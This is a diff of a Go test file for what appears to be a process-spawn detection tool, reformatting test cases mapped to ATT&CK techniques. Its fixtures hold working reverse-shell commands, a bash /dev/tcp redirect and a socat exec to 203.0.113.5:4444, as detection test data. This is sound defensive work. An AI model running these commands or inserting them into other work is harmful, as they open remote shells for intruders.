@@ -48,13 +48,17 @@ func TestProcessSpawn(t *testing.T) {
 			entity: "spawn:1003", tech: "T1059",
 		},
 		{
-			name:   "dev/tcp idiom from an interactive login is still reported",
-			add:    func(s *collector.Snapshot) { bldProc(s, 1004, 201, "bash", "bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1") },
+			name: "dev/tcp idiom from an interactive login is still reported",
+			add: func(s *collector.Snapshot) {
+				bldProc(s, 1004, 201, "bash", "bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1")
+			},
 			entity: "spawn:1004", tech: "T1059.004",
 		},
 		{
-			name:   "socat EXEC idiom",
-			add:    func(s *collector.Snapshot) { bldProc(s, 1005, 201, "socat", "socat", "tcp:203.0.113.5:4444", "exec:/bin/sh,pty") },
+			name: "socat EXEC idiom",
+			add: func(s *collector.Snapshot) {
+				bldProc(s, 1005, 201, "socat", "socat", "tcp:203.0.113.5:4444", "exec:/bin/sh,pty")
+			},
 			entity: "spawn:1005", tech: "T1059",
 		},
 		{
@@ -69,8 +73,11 @@ func TestProcessSpawn(t *testing.T) {
 			entity: "rev:1006", rule: ReverseShellRule, tech: "T1059.004",
 		},
 		{
-			name:   "office parent spawning a shell (original rule)",
-			add:    func(s *collector.Snapshot) { bldProc(s, 700, 1, "excel", "excel"); bldProc(s, 1007, 700, "bash", "bash") },
+			name: "office parent spawning a shell (original rule)",
+			add: func(s *collector.Snapshot) {
+				bldProc(s, 700, 1, "excel", "excel")
+				bldProc(s, 1007, 700, "bash", "bash")
+			},
 			entity: "spawn:1007", tech: "T1059.004",
 		},
 		{
